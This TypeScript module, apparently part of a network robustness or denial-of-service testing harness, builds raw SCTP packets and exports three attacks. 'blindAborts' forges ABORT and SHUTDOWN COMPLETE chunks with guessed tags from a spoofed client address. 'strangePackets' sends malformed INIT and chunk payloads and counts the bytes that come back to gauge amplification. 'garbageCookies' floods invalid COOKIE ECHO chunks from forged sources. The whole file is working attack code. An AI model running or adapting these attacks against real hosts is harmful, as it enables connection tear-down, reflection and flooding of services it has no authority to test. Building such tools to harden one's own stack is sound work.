import { createSocket } from 'node:dgram'
import { setTimeout as delay } from 'node:timers/promises'

import { Forger } from '../network/forge.ts'
import { type Attack, repeat } from './attack.ts'
import { forgedSource } from './udp-attacks.ts'

const SCTP_PORT = 9877

/** CRC-32C (RFC 9260, appendix A), the reflected polynomial. */
function crc32c(bytes: Uint8Array): number {
  let crc = -1
  for (const byte of bytes) {
    crc ^= byte
    for (let bit = 0; bit < 8; bit += 1) crc = (crc >>> 1) ^ (crc & 1 ? 0x82f63b78 : 0)
  }
  return ~crc >>> 0
}

/** A packet of RFC 9260, section 3, with whatever chunks. */
function packet(tag: number, ...chunks: readonly Uint8Array[]): Uint8Array {
  const bytes = Buffer.concat([new Uint8Array(12), ...chunks])
  bytes.writeUInt16BE(40_000, 0)
  bytes.writeUInt16BE(SCTP_PORT, 2)
  bytes.writeUInt32BE(tag, 4)
  bytes.writeUInt32LE(crc32c(bytes), 8)
  return bytes
}

function chunk(type: number, value: Uint8Array, flags = 0): Uint8Array {
  const length = 4 + value.length
  const bytes = Buffer.alloc((length + 3) & ~3)
  bytes.set([type, flags, length >> 8, length & 255])
  bytes.set(value, 4)
  return bytes
}

/** INIT with parameters behind it. */
function init(parameters: Uint8Array): Uint8Array {
  const value = Buffer.alloc(16 + parameters.length)
  value.writeUInt32BE(0xabcd, 0)
  value.writeUInt32BE(100_000, 4)
  value.writeUInt16BE(65_535, 8)
  value.writeUInt16BE(65_535, 10)
  value.set(parameters, 16)
  return chunk(1, value)
}

const IPV4_PARAMETER = [0, 5, 0, 8]
const addresses = Uint8Array.from(
  Array.from({ length: 180 }, (_, number) => [...IPV4_PARAMETER, 10, 77, 0, number]).flat(),
)
/** Parameters of a type that asks for a report (RFC 9260, section 3.2.1). */
const unknownParameters = Uint8Array.from(
  Array.from({ length: 350 }, () => [0xff, 0xff, 0, 4]).flat(),
)

/** ABORT and SHUTDOWN COMPLETE with guessed tags, of the host of a client and all its ports. */
const blindAborts: Attack = async (target, signal) => {
  using forger = new Forger('IPv4')
  return await repeat(signal, 1_000, (number) => {
    const payload = packet(
      (number * 2_654_435_761) >>> 0,
      chunk(number % 2 ? 6 : 14, new Uint8Array()),
    )
    forger.send({ from: { address: '10.77.0.2', port: 9_899 }, to: target, payload })
  })
}

const STRANGE_PACKETS = [
  packet(0, init(addresses)),
  packet(0, init(unknownParameters)),
  // Out of the blue (RFC 9260, section 8.4).
  packet(7, chunk(8, new Uint8Array()), chunk(0, new Uint8Array(500))),
  // Chunks of a type that asks for a report.
  packet(7, ...Array.from({ length: 300 }, () => chunk(0x7f, new Uint8Array()))),
  // Chunks of length 0.
  packet(7, new Uint8Array(1_000)),
]

/** What no stack sends, from its own address; bytes that come back are counted. */
const strangePackets: Attack = async (target, signal) => {
  const socket = createSocket('udp4')
  let [asked, answered] = [0, 0]
  socket.on('message', ({ length }) => {
    answered += length
  })
  socket.bind(0)
  const counts = await repeat(signal, 1_000, (number) => {
    const bytes = STRANGE_PACKETS[number % STRANGE_PACKETS.length] ?? new Uint8Array()
    asked += bytes.length
    socket.send(bytes, target.port, target.address)
  })
  await delay(500)
  socket.close()
  return { ...counts, asked, answered }
}

/** COOKIE ECHO with an invalid cookie, from forged sources. */
const garbageCookies: Attack = async (target, signal) => {
  using forger = new Forger('IPv4')
  const payload = packet(7, chunk(10, new Uint8Array(300).fill(0x5a)))
  return await repeat(signal, 1_000, (number) =>
    forger.send({ from: forgedSource(number), to: target, payload }),
  )
}

export const sctpAttacks: Readonly<Record<string, Attack>> = {
  blindAborts,
  garbageCookies,
  strangePackets,
}
